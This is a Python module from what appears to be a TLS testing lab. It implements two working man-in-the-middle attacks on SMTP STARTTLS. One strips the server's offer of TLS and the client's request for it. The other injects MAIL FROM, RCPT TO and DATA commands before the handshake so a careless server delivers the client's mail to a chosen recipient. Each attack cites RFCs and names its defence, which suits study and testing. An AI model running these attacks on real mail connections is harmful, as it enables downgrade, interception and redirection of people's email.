"""Attacks on STARTTLS in SMTP: on what both sides say before there is TLS (group D).

The connection begins in the clear, so whoever is on the path can take the offer of TLS away, or put
commands of its own before it (RFC 3207 section 6; "Why TLS is better without STARTTLS", Poddebniak
and others, 2021). Once TLS has begun these attacks see only records, and leave them alone.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Final

from tlslab.attack.attack import Action, Attack, End, Send, Tampering
from tlslab.attack.units import Unit
from tlslab.net import Direction

MAX_HELD: Final = 64 * 1024
"""Bytes of a line or a reply that are waited for; more is no SMTP, and passes as it is."""

_HANDSHAKE: Final = b"\x16"  # a record's content type; no command and no reply begins with it
_LINE: Final = re.compile(rb"[^\n]*\n")
_REPLY: Final = re.compile(rb"(?:[0-9]{3}-[^\n]*\n)*[0-9]{3}(?:[^-\n][^\n]*)?\n")
_CAPABILITY: Final = re.compile(rb"250[ -]STARTTLS[ \t]*\r\n", re.IGNORECASE)
_LAST_LINE: Final = re.compile(rb"250-([^\r\n]*\r\n)\Z")
_COMMAND: Final = re.compile(rb"STARTTLS[ \t]*\r\n", re.IGNORECASE)


def without_offer(reply: bytes) -> bytes:
    """A server's reply to EHLO without the capability STARTTLS; any other reply as it is.

    The last line of a reply has a space after its number, all others a hyphen (RFC 5321 4.2.1).
    """
    stripped = _CAPABILITY.sub(b"", reply)
    return reply if stripped == reply else _LAST_LINE.sub(rb"250 \1", stripped)


def without_wish(command: bytes) -> bytes:
    """A client's command, unreadable if it asks for TLS."""
    return b"XXXXXXXX\r\n" if _COMMAND.fullmatch(command) else command


@dataclass
class StripStartTLS(Attack):
    """Deletes the server's offer of TLS, and the client's wish for it."""

    id = "strip-starttls"
    title = "delete the offer of STARTTLS"
    catalogue = ("D03",)
    defeated_by = "insisting on TLS (RFC 8314 section 3, MTA-STS in RFC 8461, DANE in RFC 7672)"
    wins_when = "the client sends in the clear what it cannot send over TLS"

    def begin(self) -> Tampering:
        """The attack on a new connection."""
        return _BeforeTLS({Direction.TO_CLIENT: without_offer, Direction.TO_SERVER: without_wish})


@dataclass
class InjectBeforeTLS(Attack):
    """Appends commands to the client's STARTTLS, which a careless server obeys after it.

    They begin a letter to `recipient`, into which the client then writes whatever it says. A NOOP
    goes ahead, so that the client gets as many replies as it expects, of the right kinds.
    """

    recipient: str

    id = "inject-before-starttls"
    title = "put commands before TLS begins"
    catalogue = ("D04",)
    defeated_by = "forgetting everything that came before TLS (RFC 3207 section 4.2)"
    wins_when = "the server keeps its buffer of unread commands across the handshake"

    def begin(self) -> Tampering:
        """The attack on a new connection."""
        return _BeforeTLS({Direction.TO_SERVER: self._with_commands})

    def _with_commands(self, command: bytes) -> bytes:
        if not _COMMAND.fullmatch(command):
            return command
        recipient = self.recipient.encode()
        return command + b"NOOP\r\nMAIL FROM:<>\r\nRCPT TO:<" + recipient + b">\r\nDATA\r\n"


class _BeforeTLS(Tampering):
    """Rewrites whole commands and replies, however they are cut, until TLS begins."""

    def __init__(self, rewrite: dict[Direction, Callable[[bytes], bytes]]) -> None:
        self._rewrite = rewrite
        self._held = dict.fromkeys(Direction, b"")
        self._tls = False

    def on_unit(self, unit: Unit) -> Iterable[Action]:
        way, data = unit.way, self._held[unit.way] + unit.raw
        self._held[way] = b""
        if self._tls or unit.record is not None or data[:1] == _HANDSHAKE:
            self._tls = True
            return (Send(way, data),)
        message, at, actions = _REPLY if way is Direction.TO_CLIENT else _LINE, 0, []
        while match := message.match(data, at):
            actions.append(Send(way, self._rewritten(way, match[0])))
            at = match.end()
        if len(data) - at > MAX_HELD:
            actions.append(Send(way, data[at:]))
        else:
            self._held[way] = data[at:]
        return actions

    def on_end(self, way: Direction) -> Iterable[Action]:
        return (Send(way, self._held[way]), End(way)) if self._held[way] else (End(way),)

    def _rewritten(self, way: Direction, message: bytes) -> bytes:
        rewrite = self._rewrite.get(way)
        return message if rewrite is None else rewrite(message)
